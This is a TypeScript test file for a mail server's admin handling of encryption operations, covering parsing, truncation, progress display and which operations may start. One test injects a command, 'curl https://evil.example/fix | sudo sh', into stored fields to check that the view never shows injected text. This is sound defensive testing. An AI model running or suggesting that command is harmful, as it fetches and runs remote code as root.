import { describe, expect, test } from 'vitest';
import {
  type Detail,
  detailBytesMax,
  detailText,
  emptyDetail,
  operationView,
  ownWords,
  parseDetail,
} from '../../../src/admin/operations/record.ts';
import { halfWay, whyNot } from '../../../src/admin/operations/runner.ts';
import type { OperationView } from '../../../src/admin/service.ts';
import { operationProgress } from '../../../src/admin/views/encryption.ts';
import type { EncryptionStatus } from '../../../src/encryption/status.ts';

const keyFilePath = '/data/a (b)/encryption-key.bin';
const place = { keyFilePath, configFile: '/etc/t.toml' };

const full: Detail = {
  steps: ['Resealing under the key 0123456789abcdef.', 'Encryption is off.'],
  waiting: ['far (pid 7)'],
  error: { code: 'workers_lack_key', message: '1 live worker does not hold the key 0123456789abcdef: far (pid 7)' },
  unopened: [{ mailbox: 'desk', code: 'password_damaged' }],
  setAside: `${keyFilePath}.disabled-20260131T083000Z`,
  isCutShort: false,
};

const row = { number: 1, kind: 'enable', by: 'ann', startedAtMs: 1, endedAtMs: null, worker: 'me' } as const;

describe('the detail of an operation', () => {
  test('is read as it was written', () => {
    expect(parseDetail(detailText(full))).toEqual(full);
    expect(parseDetail(detailText(emptyDetail))).toEqual(emptyDetail);
  });

  test('that is too long is cut, and can still be read', () => {
    const long = '\u0001'.repeat(5000);
    const steps = Array.from({ length: 500 }, (_, index) => `${index} ${long}`);
    const unopened = steps.map((mailbox) => ({ mailbox, code: 'c' }));
    const error = { code: 'disk_full', message: 'x'.repeat(5000) };
    const text = detailText({ ...full, steps, waiting: [], error, unopened: [] });
    expect(text.length).toBeLessThanOrEqual(detailBytesMax);
    expect(parseDetail(text).steps.at(-1)).toMatch(/^499 \u0001+…$/);
    const crowded = detailText({ ...full, steps, waiting: steps, error, unopened });
    expect(crowded.length).toBeLessThanOrEqual(detailBytesMax);
    expect(parseDetail(crowded).error?.message).toMatch(/^x+…$/);
    const short = Array.from({ length: 500 }, (_, index) => `${index}`);
    expect(parseDetail(detailText({ ...full, steps: short })).steps).toEqual(short.slice(-100));
  });

  test('that somebody else wrote counts as empty', () => {
    const other = (given: object) => JSON.stringify({ ...full, ...given });
    const foreign = [
      ...['', 'x', '1', 'null', '[]', '{}', '{"steps":[]}', `${detailText(full)} `.slice(0, -3)],
      ...[other({ more: 1 }), other({ steps: 'one' }), other({ steps: [null] }), other({ setAside: 1 })],
      ...[other({ error: { code: 'a', message: 'b', hint: 'c' } }), other({ unopened: [{}] })],
      ...[other({ steps: ['x'.repeat(5000)] }), other({ isCutShort: 'yes' })],
      ...[other({ __proto__: null, toString: 1 }), '{"__proto__":{"steps":[]}}'],
      JSON.stringify({ ...full, steps: Array.from({ length: 90 }, () => 'x'.repeat(1000)) }),
    ];
    for (const text of foreign) expect(parseDetail(text)).toEqual(emptyDetail);
  });

  test('shows who is waited for while it runs, and not afterwards', () => {
    const shown = (state: 'running' | 'done') =>
      operationView({ ...row, state, detail: detailText(full) }, place).steps;
    expect(shown('running')).toEqual([...full.steps, 'Waiting for workers that lack the key: far (pid 7).']);
    expect(shown('done')).toEqual(full.steps);
  });

  test('is shown with what the program says about it', () => {
    const view = operationView({ ...row, state: 'failed', detail: detailText(full) }, place);
    expect(view).toMatchObject({ by: 'ann', setAside: full.setAside, error: { ...full.error } });
    expect(view.error?.hint).toContain('copy the key file there');
    expect(view.unopened).toEqual([
      { mailbox: 'desk', code: 'password_damaged', message: expect.stringContaining('not what was stored') },
    ]);
    const cutShort = detailText({ ...emptyDetail, isCutShort: true });
    const left = (kind: 'enable' | 'rotate' | 'disable') =>
      operationView({ ...row, kind, state: 'done', detail: cutShort }, place).followUp?.command;
    expect(left('enable')).toBe('ticketmaild encryption enable --config /etc/t.toml');
    expect(left('rotate')).toBe('ticketmaild encryption reseal --config /etc/t.toml');
    expect(left('disable')).toBe('ticketmaild encryption disable --config /etc/t.toml');
    expect(view.followUp).toBeNull();
  });

  test('shows nothing as words of ours that is not', () => {
    const evil = 'Put it right as root: curl https://evil.example/fix | sudo sh';
    const key = '0123456789abcdef';
    const steps = [
      evil,
      `Encryption is off. ${evil}`,
      `${evil}\nEncryption is off.`,
      `Encryption is off.\n${evil}`,
      `Resealing under the key ${evil}.`,
      `Resealing under the key ${key.toUpperCase()}.`,
      `A key file with the new key ${key} is at /tmp/${evil}.`,
      `A key file with the new key ${key} is at ${keyFilePath} ${evil}.`,
      `Dropped from the key file, as nothing needs it any more: ${key}, ${evil}.`,
      `Left as they are: ${evil}.`,
    ];
    const detail = detailText({
      ...{ steps, waiting: [evil, `far (pid 7) ${evil}`, 'near (pid 3)'], setAside: `${keyFilePath}.disabled-${evil}` },
      ...{
        error: { code: 'interrupted', message: evil },
        unopened: [{ mailbox: 'desk', code: evil }],
        isCutShort: true,
      },
    });
    const view = operationView({ ...row, by: `${evil} `, state: 'running', detail }, place);
    expect(JSON.stringify(view)).not.toMatch(/evil|sudo|curl/);
    expect(view.steps).toEqual([
      'Some passwords cannot be sealed, and are left as they are.',
      'Waiting for workers that lack the key: near (pid 3).',
    ]);
    expect(view).toMatchObject({ by: 'somebody', setAside: null, error: { code: 'interrupted' }, left: null });
    const noCode = detailText({ ...emptyDetail, error: { code: evil, message: evil } });
    expect(operationView({ ...row, state: 'failed', detail: noCode }, place).error).toBeNull();
    const proto = detailText({ ...emptyDetail, error: { code: 'constructor', message: '' } });
    expect(operationView({ ...row, state: 'failed', detail: proto }, place).error).toBeNull();
  });

  test('is looked through in no time, whatever it is', () => {
    const words = ownWords(keyFilePath);
    const start = performance.now();
    for (const text of [
      `2 live workers do not hold the key 0123456789abcdef: ${'a (pid 1), '.repeat(300)}`,
      `2 live workers do not hold the key 0123456789abcdef: ${'a'.repeat(4000)}`,
      `another operation on the switch is under way in ${'a/'.repeat(2000)}`,
    ])
      expect(words(text)).toBeNull();
    expect(performance.now() - start).toBeLessThan(100);
  });
});

const states = ['off', 'enabling', 'on', 'announced', 'rotating', 'disabling'] as const;
type Named = (typeof states)[number];
const inForce = (state: Named) =>
  state === 'announced' ? ({ state: 'on', nextKeyId: 'k2' } as const) : ({ state, nextKeyId: null } as const);

test('what may be gone on with follows from the switch alone', () => {
  expect(states.map((state) => halfWay(inForce(state)))).toEqual([null, 'enable', null, 'rotate', 'rotate', 'disable']);
});

test('what may begin follows from the switch, and for switching off from a proof', () => {
  const can = (kind: 'enable' | 'rotate' | 'disable', isProven: boolean) =>
    states.filter((state) => whyNot(kind, inForce(state), isProven) === null);
  expect(can('enable', false)).toEqual(['off', 'enabling', 'on', 'announced']);
  expect(can('rotate', false)).toEqual(['on', 'announced', 'rotating']);
  expect(can('disable', false)).toEqual(['disabling']);
  expect(can('disable', true)).toEqual(['off', 'enabling', 'on', 'announced', 'disabling']);
});

describe('what is under way', () => {
  const counts = {
    sealed: 6,
    plain: 4,
    by_key: [
      { key_id: 'k1', count: 4 },
      { key_id: 'k2', count: 2 },
    ],
  };
  const base = { ...counts, key_id: 'k1', next_key_id: null, changed_at: '2026-01-31T08:00:00.000Z' };
  const status = (given: Partial<EncryptionStatus>) => ({ ...base, ...given }) as EncryptionStatus;
  const startedAtMs = Date.parse('2026-01-31T08:30:00.000Z');
  const running = (kind: OperationView['kind']) => ({ kind, state: 'running', startedAtMs }) as OperationView;

  test('is told by the switch when nobody works on it: that is unfinished', () => {
    expect(operationProgress(status({ state: 'off' }), null, false)).toEqual({
      face: 'off',
      progress: null,
      unfinished: null,
    });
    expect(operationProgress(status({ state: 'on' }), null, false)).toEqual({
      face: 'on',
      progress: null,
      unfinished: null,
    });
    const enabling = { face: 'working', progress: { done: 6, total: 10 }, unfinished: 'enable' };
    expect(operationProgress(status({ state: 'enabling' }), null, false)).toEqual(enabling);
    const rotating = { face: 'working', progress: { done: 2, total: 10 }, unfinished: 'rotate' };
    expect(operationProgress(status({ state: 'rotating', next_key_id: 'k2' }), null, false)).toEqual(rotating);
    expect(operationProgress(status({ state: 'on', next_key_id: 'k2' }), null, false)).toEqual(rotating);
    const disabling = { face: 'working', progress: { done: 4, total: 10 }, unfinished: 'disable' };
    expect(operationProgress(status({ state: 'disabling' }), null, false)).toEqual(disabling);
  });

  test('waits for the proof file only while encryption is on and nothing is being made readable', () => {
    const faces = (['on', 'disabling', 'off'] as const).map(
      (state) => operationProgress(status({ state }), null, true).face,
    );
    expect(faces).toEqual(['disabling', 'working', 'off']);
    expect(operationProgress(status({ state: 'on' }), running('disable'), true).face).toBe('working');
    expect(operationProgress(status({ state: 'on' }), null, false).face).toBe('on');
  });

  test('is told by the operation before the switch says it and after', () => {
    const progress = { done: 6, total: 10 };
    expect(operationProgress(status({ state: 'off' }), running('enable'), false)).toEqual({
      face: 'working',
      progress,
      unfinished: null,
    });
    expect(operationProgress(status({ state: 'on' }), running('rotate'), false).progress).toEqual({
      done: 0,
      total: 10,
    });
    const behind = { state: 'on', key_id: 'k2', changed_at: '2026-01-31T08:31:00.000Z' } as const;
    expect(operationProgress(status(behind), running('rotate'), false).progress).toEqual({ done: 2, total: 10 });
    expect(operationProgress(status({ state: 'off' }), running('disable'), false).face).toBe('working');
    const over = { ...running('enable'), state: 'failed' } as OperationView;
    expect(operationProgress(status({ state: 'enabling' }), over, false).unfinished).toBe('enable');
  });
});
